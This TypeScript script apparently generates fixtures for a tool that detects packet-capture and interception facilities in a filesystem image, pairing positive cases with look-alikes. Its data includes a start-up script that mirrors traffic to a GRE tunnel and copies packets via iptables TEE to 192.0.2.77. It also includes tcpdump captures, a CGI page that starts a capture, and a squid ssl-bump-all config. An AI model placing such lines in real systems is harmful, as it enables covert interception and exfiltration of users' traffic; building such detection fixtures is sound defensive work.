// node examples/describe/facilities/make.ts: writes programs that are none and scripts nobody runs.
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

const ELF = Buffer.from('\x7fELF\x01\x01\x01 made up, no program', 'latin1');

function write(name: string, path: string, content: string | Buffer, note: string): void {
  const folder = join(import.meta.dirname, name);
  mkdirSync(folder, { recursive: true });
  const input =
    typeof content === 'string'
      ? { path, format: 'text', text: content }
      : { path, format: 'elf', base64: content.toString('base64') };
  writeFileSync(join(folder, 'input.json'), `${JSON.stringify(input, null, 2)}\n`);
  writeFileSync(join(folder, 'NOTE.md'), `${note}\n`);
}

write('program', 'usr/sbin/tcpdump', ELF, 'A program known to capture, by its name. Whether anybody starts it is not said.');
write('module', 'lib/modules/4.14/xt_TEE.ko', ELF, 'A kernel module whose purpose is to send copies of packets to another machine.');
write('page-of-that-name', 'www/tcpdump', 'How to use the capture page.\n', 'The look-alike: a text of that name is no program.');
write('documentation', 'usr/share/doc/tcpdump/tcpdump', '#!/bin/sh\ntcpdump -i eth0 -w /tmp/x.pcap\n', 'The look-alike: documentation quotes commands. Not looked at.');
write(
  'script-at-start-up',
  'etc/init.d/S90qos',
  [
    '#!/bin/sh',
    '# tcpdump -i eth0 -w /tmp/never.pcap',
    'tc filter add dev eth0 parent ffff: protocol ip u32 match u32 0 0 action mirred egress mirror dev gre1',
    'iptables -t mangle -A PREROUTING -j TEE --gateway 192.0.2.77',
    '/usr/sbin/tcpdump -i br0 -s 0 -w /var/cap.pcap &',
    '',
  ].join('\n'),
  'Start-up mirrors to a tunnel, sends copies to an address and captures into a file; the comment runs nothing.',
);
write(
  'web-page',
  'www/cgi-bin/capture.cgi',
  '#!/bin/sh\ncase "$QUERY_STRING" in\nstart) tcpdump -i br0 -w /tmp/c.pcap & ;;\nesac\n',
  'A page starts the capture: it is available, and who can switch it on is the page.',
);
write(
  'person-at-a-terminal',
  'usr/bin/look',
  '#!/bin/sh\nexec tcpdump -n -i "$1" port 53\n',
  'The look-alike: what a person looks at on a terminal is kept by nobody. Nothing is given.',
);
write('squid', 'etc/squid/squid.conf', 'http_port 3128 ssl-bump cert=/etc/ca.pem\nssl_bump bump all\n#ssl_bump stare all\n', 'A proxy that opens up encrypted connections.');
write('red-in-words', 'usr/bin/report', '#!/bin/sh\necho "the log was mirrored to dev"\niptables -A INPUT -j ACCEPT\n', 'Nothing of that kind.');
